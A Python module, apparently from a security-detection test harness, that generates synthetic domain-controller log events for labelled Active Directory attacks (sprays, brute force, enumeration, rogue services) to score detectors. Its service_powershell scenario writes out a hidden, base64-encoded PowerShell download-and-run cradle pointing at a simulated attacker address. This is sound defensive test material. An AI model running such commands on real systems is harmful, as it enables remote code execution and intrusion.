"""Injected attacks, each with a ground-truth label saying what happened, when, and who was involved.

Every scenario writes the events a DC would log for one attack (the same builders as the everyday
traffic, so attack and benign events are indistinguishable in shape) and tags them with their
label id in `WindowsEvent.origin.member`, so a detector's alerts can be scored against the truth.
"""

from __future__ import annotations

import base64
import random
import string
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from ..alerts import ALERT_TYPES
from ..model import Origin, iso_utc
from .builder import Builder, Stamped, to_dt
from .chains import ChainAttacks
from .dcattacks import Part
from .domain import FIRST, LAST, US, Account, Domain, Machine

ATTACK_TYPES = ("brute-force", "password-spray", "account-enumeration", "honeytoken-activity",
                "sensitive-group-addition", "suspicious-service-creation", "remote-code-execution",
                # the DC's wider Security log (reference/dc-log-alerts.md part B)
                "dcsync", "kerberoasting", "asrep-roasting", "golden-ticket", "overpass-the-hash", "pass-the-hash",
                "dpapi-backup-key", "remote-service-installation", "dcsync-rights", "shadow-credentials",
                "rbcd-change", "spn-added-to-user", "primary-group-change", "adminsdholder-change", "acl-change",
                "gpo-change", "preauth-disabled", "nopac", "sid-history", "dcshadow", "dsrm-password-change",
                "log-cleared", "audit-policy-disabled", "trust-created", "adcs-san-mismatch", "adcs-config-change")
MIN = 60 * US
DICTIONARY = ("admin administrator test guest backup sql sqladmin oracle ftp web webadmin support helpdesk "
              "scanner printer info sales hr finance it operator manager user user1 demo training temp "
              "service svc_test exchange mail postmaster root john.smith jsmith2 adm a.smith test1 kiosk").split()


@dataclass
class Label:
    """Ground truth for one injected attack. `records` fills in as the stream is consumed."""

    id: str
    type: str
    variant: str
    start: datetime
    end: datetime
    entities: dict[str, Any]
    technique: str = ""
    events: int = 0
    event_ids: dict[int, int] = field(default_factory=dict)
    also: list[str] = field(default_factory=list)  # other alert types this attack may rightly raise
    records: list[tuple[str, str, int]] = field(default_factory=list)  # (computer, channel, EventRecordID)

    def contains(self, t: datetime) -> bool:
        return self.start <= t <= self.end

    def to_dict(self) -> dict[str, Any]:
        return {"id": self.id, "type": self.type, "variant": self.variant, "technique": self.technique,
                "start": iso_utc(self.start), "end": iso_utc(self.end), "entities": self.entities,
                "events": self.events, "event_ids": {str(k): v for k, v in sorted(self.event_ids.items())},
                "also": self.also, "records": [list(r) for r in self.records]}


def select(spec: str | Iterable[str] | None) -> list[str]:
    """`all`, `none`, or a comma list of attack types -> the types to inject (ValueError on unknown)."""
    if spec is None:
        return []
    names = [s.strip() for s in (spec.split(",") if isinstance(spec, str) else spec) if s.strip()]
    if names == ["all"]:
        return list(ATTACK_TYPES)
    if names in (["none"], []):
        return []
    bad = [n for n in names if n not in ATTACK_TYPES]
    if bad:
        raise ValueError(f"unknown attack type(s) {', '.join(bad)}; "
                         f"expected all, none or some of {', '.join(ATTACK_TYPES)}")
    return [t for t in ATTACK_TYPES if t in names]


class Attacks(ChainAttacks):
    """The scenario library. Each scenario appends events to the builder and returns (variant, entities)."""

    def __init__(self, d: Domain, seed: int, compact: bool = False) -> None:
        self.d, self.compact = d, compact  # compact: demo-sized attacks, just over the default thresholds
        self.rng = random.Random(f"dcsentry-synth:{seed}:attacks")
        self.b = Builder(d, self.rng)
        self.rid = 30000  # accounts an attacker creates
        self.counts: Counter = Counter()

    def tag(self, kind: str) -> str:
        """A new label id for `kind`; the events written from now on carry it."""
        self.counts[kind] += 1
        label_id = f"{kind}-{self.counts[kind]}"
        self.b.tag = Origin("synth", None, label_id)
        return label_id

    # -- sources -------------------------------------------------------------------------------
    def rogue(self) -> Machine:
        """A machine that is not in the domain: an attacker's laptop on the VPN pool."""
        rng = self.rng
        name = rng.choice(("KALI", "WIN-" + "".join(rng.choices(string.ascii_uppercase + string.digits, k=11)),
                           "DESKTOP-" + "".join(rng.choices(string.ascii_uppercase + string.digits, k=7))))
        return Machine(name, name, "", f"10.0.99.{rng.randint(10, 250)}", "rogue", self.d.dcs[0])

    def victim(self, exclude: Iterable[Account] = ()) -> tuple[Account, Machine]:
        """A compromised user and the workstation the attacker works from."""
        skip = {a.sam for a in exclude}
        u = self.rng.choice([a for a in self.d.users if a.sam not in skip])
        return u, u.workstation or self.d.dcs[0]

    def count(self, lo: int, hi: int, compact: int) -> int:
        return compact if self.compact else self.rng.randint(lo, hi)

    def targets(self, k: int) -> list[Account]:
        return self.rng.sample(self.d.users, min(len(self.d.users), k))

    def _src(self, m: Machine) -> dict[str, str]:
        return {"source_workstation": m.name, "source_ip": m.ip}

    # -- credential attacks ---------------------------------------------------------------------
    def brute_force_ntlm(self, us: int, room: int) -> tuple[str, dict]:
        _, ws = self.victim()
        target = self.rng.choice([a for a in self.d.users if a.workstation is not ws])
        srv = self.d.servers["FS02"]
        n = self.count(40, 120, 24)
        for i in range(n):
            us = self.b.ntlm(us, target.sam, ws.name, srv, 0 if i == n - 1 else 0xC000006A)
            us += self.rng.randint(500, 3000) * 1000
        return "ntlm", {"account": target.sam, "account_sid": target.sid, **self._src(ws), "target_server": srv.name,
                        "dc": (srv.dc or self.d.dcs[0]).fqdn, "attempts": n, "guessed_accounts": [target.sam]}

    def brute_force_kerberos(self, us: int, room: int) -> tuple[str, dict]:
        src, target, dc = self.rogue(), self.rng.choice(self.d.admins), self.rng.choice(self.d.dcs)
        n = self.count(30, 60, 20)
        for i in range(n):  # lockout threshold 10: afterwards the KDC answers "revoked" (0x12)
            if i < 10:
                self.b.preauth_fail(us, dc, target.sam, target.sid, src.ip)
            else:
                self.b.tgt(us, dc, target.sam, target.sid, src.ip, 0x12)
            us += self.rng.randint(800, 2500) * 1000
        return "kerberos", {"account": target.sam, "account_sid": target.sid, "source_ip": src.ip, "dc": dc.fqdn,
                            "attempts": n, "guessed_accounts": []}

    def spray_ntlm(self, us: int, room: int) -> tuple[str, dict]:
        """One or two passwords across many accounts through Exchange (OWA); the second round ~30 min later."""
        src, exch = self.rogue(), self.d.servers["EXCH01"]
        accounts = self.targets(self.count(30, 300, 30))
        rounds = 2 if room > 45 * MIN and not self.compact else 1
        guessed = self.rng.choice(accounts)
        first = us
        for r in range(rounds):
            us = first + r * self.rng.randint(30, 40) * MIN
            for a in accounts:
                hit = r == rounds - 1 and a is guessed
                us = self.b.ntlm(us, a.sam, src.name, exch, 0 if hit else 0xC000006A)
                us += self.rng.randint(300, 1500) * 1000
        return "ntlm", {**self._src(src), "target_server": exch.name, "accounts": sorted(a.sam for a in accounts),
                        "passwords": rounds, "guessed_accounts": [guessed.sam]}

    def spray_slow(self, us: int, room: int) -> tuple[str, dict]:
        """One password, one account every few minutes for hours: under any per-hour threshold."""
        _, ws = self.victim()
        accounts = self.targets(self.count(60, 150, 20))
        span = max(20 * MIN, min(4 * 60 * MIN, int(room * 0.8)))
        step = span // len(accounts)
        srv = self.d.servers["FS01"]
        for a in accounts:
            self.b.ntlm(us, a.sam, ws.name, srv, 0xC000006A)
            us += self.rng.randint(step // 2, step * 3 // 2)
        return "ntlm-slow", {**self._src(ws), "target_server": srv.name, "accounts": sorted(a.sam for a in accounts),
                             "passwords": 1, "guessed_accounts": []}

    def spray_kerberos(self, us: int, room: int) -> tuple[str, dict]:
        src, dc = self.rogue(), self.rng.choice(self.d.dcs)
        accounts = self.targets(self.count(30, 120, 30))
        guessed = self.rng.choice(accounts)
        for a in accounts:
            if a is guessed:
                self.b.tgt(us, dc, a.sam, a.sid, src.ip)
            else:
                self.b.preauth_fail(us, dc, a.sam, a.sid, src.ip)
            us += self.rng.randint(80, 600) * 1000
        return "kerberos", {"source_ip": src.ip, "dc": dc.fqdn, "accounts": sorted(a.sam for a in accounts),
                            "passwords": 1, "guessed_accounts": [guessed.sam]}

    def _names(self, lo: int, hi: int) -> tuple[list[str], list[str]]:
        """A user-name dictionary: generic names and first.last guesses, with 2-4 real accounts in it."""
        rng, d = self.rng, self.d
        want = self.count(lo, hi, 24)
        names = set(rng.sample(DICTIONARY, min(want, len(DICTIONARY))))
        while len(names) < want:  # first.last guesses: this domain's names are flast, so these miss
            names.add(f"{rng.choice(FIRST)}.{rng.choice(LAST)}".lower())
        names = {n for n in names if n not in d.by_sam}
        real = [a.sam for a in rng.sample(d.users, rng.randint(2, 4))]
        out = sorted(names) + real
        rng.shuffle(out)
        return out, sorted(real)

    def enumeration_ntlm(self, us: int, room: int) -> tuple[str, dict]:
        src, web = self.rogue(), self.d.servers["WEB01"]
        names, real = self._names(80, 200)
        for n in names:
            us = self.b.ntlm(us, n, src.name, web, 0xC000006A if n in real else 0xC0000064)
            us += self.rng.randint(100, 900) * 1000
        return "ntlm", {**self._src(src), "target_server": web.name, "names": len(names), "existing_accounts": real}

    def enumeration_kerberos(self, us: int, room: int) -> tuple[str, dict]:
        """AS-REQs without pre-auth: unknown names give 4768 0x6; real ones only 'pre-auth required' (not logged)."""
        src, dc = self.rogue(), self.rng.choice(self.d.dcs)
        names, real = self._names(60, 150)
        for n in names:
            if n not in real:
                self.b.tgt(us, dc, n, "", src.ip, 0x6)
            us += self.rng.randint(20, 200) * 1000
        return "kerberos", {"source_ip": src.ip, "dc": dc.fqdn, "names": len(names), "existing_accounts": real}

    def honeytoken(self, us: int, room: int) -> tuple[str, dict]:
        """The decoy found in a script on a share: tried over NTLM, then used for a Kerberos ticket."""
        ht, (_, ws) = self.d.honeytokens[0], self.victim()
        sql, b = self.d.servers["SQL01"], self.b
        us = b.ntlm(us, ht.sam, ws.name, sql, 0xC000006A) + self.rng.randint(20, 90) * US
        us = b.ntlm(us, ht.sam, ws.name, sql) + self.rng.randint(60, 600) * US
        dc = ws.dc or self.d.dcs[0]
        b.tgt(us, dc, ht.sam, ht.sid, ws.ip)
        b.tgs(b.later(us, 5, 80), dc, ht.sam, sql.account, sql.sid, ws.ip)
        return "ntlm+kerberos", {"account": ht.sam, "account_sid": ht.sid, **self._src(ws), "target_server": sql.name}

    # -- persistence and execution ---------------------------------------------------------------
    def _group(self, us: int, actor: Account, group: str, member: Account, src: Machine,
               dc: Machine | None = None) -> tuple[int, dict]:
        dc = dc or self.rng.choice(self.d.dcs)
        g = self.d.groups[group]
        us, lid = self.session(us, dc, actor, src)
        us = self.b.later(us, 1000, 6000)
        self.b.group_change(us, dc, g, member, actor, lid)
        return us, {"actor": actor.sam, "actor_sid": actor.sid, **self._src(src), "group": g.name, "group_sid": g.sid,
                    "member": member.sam, "member_sid": member.sid, "dc": dc.fqdn, "event_id": g.add_id}

    def group_domain_admins(self, us: int, room: int) -> tuple[str, dict]:
        actor = self.d.helpdesk[-1]  # changes ordinary groups every day, never Domain Admins
        member, ws = self.victim()
        return "domain-admins", self._group(us, actor, "Domain Admins", member, ws)[1]

    def group_enterprise_admins(self, us: int, room: int) -> tuple[str, dict]:
        """A compromised user creates a backdoor account, adds it to Enterprise Admins, removes it later."""
        actor, ws = self.victim()
        dc = self.rng.choice(self.d.dcs)
        self.rid += 1
        new = Account("svc_mssql_adm", self.d.rid_sid(self.rid), "svc_mssql_adm",
                      self.d.dn("svc_mssql_adm", "OU=Service Accounts,OU=Corp"), "user")
        us, lid = self.session(us, dc, actor, ws)
        self.b.user_created(us := self.b.later(us, 2000, 9000), dc, new, actor, lid)
        us, ent = self._group(self.b.later(us, 5000, 60000), actor, "Enterprise Admins", new, ws, dc)
        us += max(MIN, min(self.rng.randint(30, 90) * MIN, room // 2))
        us, lid = self.session(us, dc, actor, ws)
        self.b.group_change(self.b.later(us, 1000, 6000), dc, self.d.groups["Enterprise Admins"], new, actor, lid,
                            add=False)
        return "enterprise-admins-add-remove", {**ent, "created_account": new.sam}

    def group_dnsadmins(self, us: int, room: int) -> tuple[str, dict]:
        member, ws = self.victim()
        return "dnsadmins", self._group(us, member, "DnsAdmins", member, ws)[1]

    def _service(self, us: int, variant: str, name: str, path: str) -> tuple[str, dict]:
        """A service installed on a DC with a stolen admin's credentials from an ordinary workstation."""
        actor, (_, ws), dc = self.rng.choice(self.d.admins), self.victim(), self.rng.choice(self.d.dcs)
        us, lid = self.session(us, dc, actor, ws)
        self.b.service(self.b.later(us, 300, 3000), dc, name, path, "user mode service", "demand start", "LocalSystem",
                       actor, lid)
        return variant, {"actor": actor.sam, "actor_sid": actor.sid, **self._src(ws), "computer": dc.fqdn,
                         "service_name": name, "image_path": path}

    def _rand(self, k: int, chars: str = string.ascii_lowercase) -> str:
        return "".join(self.rng.choices(chars, k=k))

    def service_pipe(self, us: int, room: int) -> tuple[str, dict]:
        tok = self._rand(6)
        return self._service(us, "comspec-pipe", tok, rf"%COMSPEC% /c echo {tok} > \\.\pipe\{tok}")

    def service_powershell(self, us: int, room: int) -> tuple[str, dict]:
        cmd = f"IEX (New-Object Net.WebClient).DownloadString('http://10.0.99.{self.rng.randint(10, 250)}/a')"
        enc = base64.b64encode(cmd.encode("utf-16-le")).decode()
        return self._service(us, "base64-powershell", self._rand(8, string.ascii_letters),
                             rf"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -enc {enc}")

    def service_temp(self, us: int, room: int) -> tuple[str, dict]:
        u, _ = self.victim()
        path = rf"C:\Users\{u.sam}\AppData\Local\Temp\updater64.exe"
        return self._service(us, "temp-binary", "WinUpdateHelper", path)

    def service_admin_share(self, us: int, room: int) -> tuple[str, dict]:
        return self._service(us, "admin-share", self._rand(4, string.ascii_letters),
                             rf"\\127.0.0.1\ADMIN$\{self._rand(8, string.ascii_letters + string.digits)}.exe")

    def psexec(self, us: int, room: int) -> tuple[str, dict]:
        return self._service(us, "psexec", "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")


Scenario = Callable[[Attacks, int, int], Any]
SCENARIOS: tuple[tuple[str, Scenario, bool], ...] = (  # (alert type, scenario, long-running)
    ("brute-force", Attacks.brute_force_ntlm, False), ("brute-force", Attacks.brute_force_kerberos, False),
    ("password-spray", Attacks.spray_ntlm, False), ("password-spray", Attacks.spray_slow, True),
    ("password-spray", Attacks.spray_kerberos, False),
    ("account-enumeration", Attacks.enumeration_ntlm, False),
    ("account-enumeration", Attacks.enumeration_kerberos, False),
    ("honeytoken-activity", Attacks.honeytoken, False),
    ("sensitive-group-addition", Attacks.group_domain_admins, False),
    ("sensitive-group-addition", Attacks.group_enterprise_admins, True),
    ("sensitive-group-addition", Attacks.group_dnsadmins, False),
    ("suspicious-service-creation", Attacks.service_pipe, False),
    ("suspicious-service-creation", Attacks.service_powershell, False),
    ("suspicious-service-creation", Attacks.service_temp, False),
    ("suspicious-service-creation", Attacks.service_admin_share, False),
    ("remote-code-execution", Attacks.psexec, False),
    ("dcsync", Attacks.chain_dcsync, True),  # a chain: password-spray, kerberoasting, dcsync labels
    ("remote-service-installation", Attacks.chain_service_on_dc, False),  # a chain: brute-force, then this
    ("asrep-roasting", Attacks.asrep, False), ("golden-ticket", Attacks.golden, False),
    ("overpass-the-hash", Attacks.overpass, False), ("pass-the-hash", Attacks.pass_the_hash, False),
    ("dpapi-backup-key", Attacks.dpapi, False), ("remote-service-installation", Attacks.remote_service, False),
    ("dcsync-rights", Attacks.dcsync_rights, False), ("shadow-credentials", Attacks.shadow_credentials, False),
    ("rbcd-change", Attacks.rbcd, False), ("spn-added-to-user", Attacks.spn_on_user, False),
    ("primary-group-change", Attacks.primary_group, False), ("adminsdholder-change", Attacks.adminsdholder, False),
    ("acl-change", Attacks.acl_group, False), ("gpo-change", Attacks.gpo_backdoor, False),
    ("preauth-disabled", Attacks.preauth_off, False), ("nopac", Attacks.nopac, False),
    ("sid-history", Attacks.sid_history, False), ("dcshadow", Attacks.dcshadow, False),
    ("dsrm-password-change", Attacks.dsrm, False), ("log-cleared", Attacks.log_clear, False),
    ("audit-policy-disabled", Attacks.audit_off, False), ("trust-created", Attacks.trust, False),
    ("adcs-san-mismatch", Attacks.esc1, False), ("adcs-config-change", Attacks.ca_audit, False),
)
# chains (several labelled steps, one attack story: docs/incidents.md), by name: the types their steps are
# labelled with, in order; their scenario functions return the steps themselves
CHAINS = {"dcsync": ("password-spray", "kerberoasting", "dcsync"),
          "service-on-dc": ("brute-force", "remote-service-installation")}
_SERVICE_ALSO = ["remote-service-installation"]  # a 4697 after a network logon is a remote install as well
ALSO = {"psexec": ["suspicious-service-creation", *_SERVICE_ALSO],
        "admin-share": ["remote-code-execution", *_SERVICE_ALSO],
        "comspec-pipe": _SERVICE_ALSO, "base64-powershell": _SERVICE_ALSO, "temp-binary": _SERVICE_ALSO,
        "smb-svcctl": ["suspicious-service-creation", "remote-code-execution"],
        "domain-root-ace": ["acl-change"], "full-control-ace": ["acl-change"],
        "spn-then-roast": ["kerberoasting"], "uac-then-asrep": ["asrep-roasting"],
        # the S4U2self ticket for the DC's name, asked after the rename back, names an account that no longer
        # exists: the nonexistent-account (forged ticket) logic rightly sees it too
        "create-rename-tgt": ["golden-ticket"]}


def plan_attacks(d: Domain, seed: int, t0: int, t1: int, types: list[str],
                 compact: bool = False) -> tuple[list[Stamped], list[Label]]:
    """Lay the selected scenarios out over [t0, t1): long ones early, the rest shuffled over the run.

    Returns all attack events (time-sorted) and their labels. Attack volume does not grow with the
    run length, so this fits in memory whatever --hours says.
    """
    atk = Attacks(d, seed, compact)
    chosen = [s for s in SCENARIOS if s[0] in types]
    long_, short = [s for s in chosen if s[2]], [s for s in chosen if not s[2]]
    atk.rng.shuffle(short)
    order = long_ + short
    span, events, labels = t1 - t0, [], []
    for i, (kind, fn, _) in enumerate(order):
        slot = span * 0.9 / max(1, len(order))
        start = t0 + int(span * 0.03 + i * slot + atk.rng.random() * slot * 0.5)
        gap = t1 - start
        room = gap - min(MIN, gap // 10)  # every attack event stays inside the run
        atk.b.out = []
        label_id = atk.tag(kind)  # a chain tags each of its steps itself (this id then labels nothing)
        result = fn(atk, start, room)
        parts: list[Part] = result if isinstance(result, list) else [(label_id, kind, *result)]
        out = atk.b.out
        last = max(us for us, _ in out)
        if last > start + room:  # squeeze a scenario that outgrew a short run, keeping its order
            f = room / (last - start)
            out = [(start + int((us - start) * f), ev) for us, ev in out]
            for us, ev in out:
                ev.time = to_dt(us)
        out.sort(key=lambda p: p[0])
        for label_id, step, variant, entities in parts:
            mine = [ev for _, ev in out if ev.origin is not None and ev.origin.member == label_id]
            labels.append(Label(label_id, step, variant, mine[0].time, mine[-1].time, entities,
                                ALERT_TYPES[step].technique, len(mine), dict(Counter(ev.event_id for ev in mine)),
                                list(ALSO.get(variant, []))))
        events.extend(out)
    events.sort(key=lambda p: p[0])
    labels.sort(key=lambda lb: (lb.start, lb.id))
    return events, labels
